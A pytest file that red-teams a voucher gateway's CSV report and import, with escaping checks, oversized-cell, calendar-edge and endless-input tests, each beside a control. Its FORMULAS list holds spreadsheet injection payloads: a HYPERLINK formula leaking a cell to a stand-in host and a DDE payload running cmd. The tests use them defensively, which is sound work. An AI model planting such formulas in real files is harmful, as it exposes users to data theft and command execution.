"""Red-team pass on the village office's report and import (Step 11): hostile seller and
batch names in the CSV a spreadsheet opens, an oversized cell in an imported file,
dates at the calendar's edge. Each attack beside its positive control."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from gateway.cli_office import write_report_csv
from gateway.core.office import parse_day
from gateway.core.voucher_import import ImportRejected, parse_import, profile_mapper
from gateway.errors import Invalid
from tests.unit.test_office_report import DEC1, H, Office

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)"]


async def _csv_rows(office: Office) -> list[dict[str, str]]:
    out = io.StringIO()
    write_report_csv(await office.service.report(), out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("name", FORMULAS)
async def test_a_seller_or_batch_name_never_becomes_a_spreadsheet_formula(
        tmp_path: Path, name: str) -> None:
    # The names pass the import's and the batch's checks (printable text) ...
    office = Office(tmp_path)
    office.add("AAAAA-22222", DEC1 + H, seller=name, batch=name)
    office.use("AAAAA-22222", DEC1 + 2 * H, down=2048)
    rows = await _csv_rows(office)
    cells = [r[k] for r in rows for k in ("key", "name")]
    # ... but no cell of the report starts with what a spreadsheet runs as a formula,
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    # and the name is still there to read (quoted with a leading apostrophe).
    assert {r["key"] for r in rows if r["group"] == "seller"} == {"'" + name}


async def test_plain_names_days_and_numbers_are_written_as_they_are(tmp_path: Path) -> None:
    office = Office(tmp_path)
    office.add("AAAAA-22222", DEC1 + H, seller="Bu Sari", batch="b-1")
    office.use("AAAAA-22222", DEC1 + 2 * H, down=2048)
    rows = await _csv_rows(office)
    got = {(r["group"], r["key"]): (r["sold"], r["bytes_down"]) for r in rows}
    assert got[("seller", "Bu Sari")] == ("1", "2048")
    assert got[("batch", "b-1")] == ("1", "2048")
    assert ("day", "2026-12-01") in got


PLANS = {"jam": object()}


def test_an_oversized_cell_is_a_row_problem_not_a_crash() -> None:
    # Python's csv module refuses a field over 128 KiB with csv.Error; the control API
    # turned that into a 500 "internal error" with nothing for the office to fix.
    text = "code,plan,seller\nK7MQX-3PAR9,jam,\"" + "a" * 200_000 + "\"\n"
    with pytest.raises(ImportRejected) as err:
        parse_import(text, profile_mapper(PLANS, {}), PLANS)
    assert err.value.rows[0].row == 2 and "cell" in str(err.value)


def test_a_file_with_normal_cells_still_imports() -> None:
    text = "code,plan,seller\nK7MQX-3PAR9,jam," + "a" * 60 + "\n"
    parsed = parse_import(text, profile_mapper(PLANS, {}), PLANS)
    assert [r.code for r in parsed.rows] == ["K7MQX-3PAR9"]


@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01"])
async def test_a_date_at_the_calendars_edge_is_refused_clearly(tmp_path: Path, day: str) -> None:
    with pytest.raises(Invalid, match="--to"):
        parse_day(day, "--to")
    office = Office(tmp_path)
    office.add("AAAAA-22222", DEC1 + H)
    with pytest.raises(Invalid) as err:  # was: OverflowError, a 500 from the control API
        await office.service.report(None, day)
    assert err.value.field == "to"


async def test_a_far_but_real_date_range_still_reports(tmp_path: Path) -> None:
    office = Office(tmp_path)
    office.add("AAAAA-22222", DEC1 + H)
    data = await office.service.report("2000-01-01", "2099-12-31")
    assert data["totals"]["created"] == 1


class _Endless:
    """Standard input that never ends (``desanet vouchers import - < /dev/zero``)."""

    def __init__(self) -> None:
        self.handed = 0

    def read(self, n: int = -1) -> bytes:
        if n is None or n < 0:
            raise AssertionError("the whole of an endless input was asked for")
        self.handed += n
        return b"a" * n


def test_an_endless_input_is_refused_after_the_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    from gateway import cli_office

    endless = _Endless()
    monkeypatch.setattr(cli_office.sys, "stdin", type("In", (), {"buffer": endless})())
    with pytest.raises(Invalid, match="KiB"):
        cli_office._read_csv("-")
    assert endless.handed <= cli_office.MAX_FILE + 1


def test_a_file_under_the_limit_is_read_whole(tmp_path: Path) -> None:
    from gateway import cli_office

    path = tmp_path / "v.csv"
    path.write_bytes(b"\xef\xbb\xbfcode,plan\nK7MQX-3PAR9,jam\n")
    assert cli_office._read_csv(str(path)) == "code,plan\nK7MQX-3PAR9,jam\n"
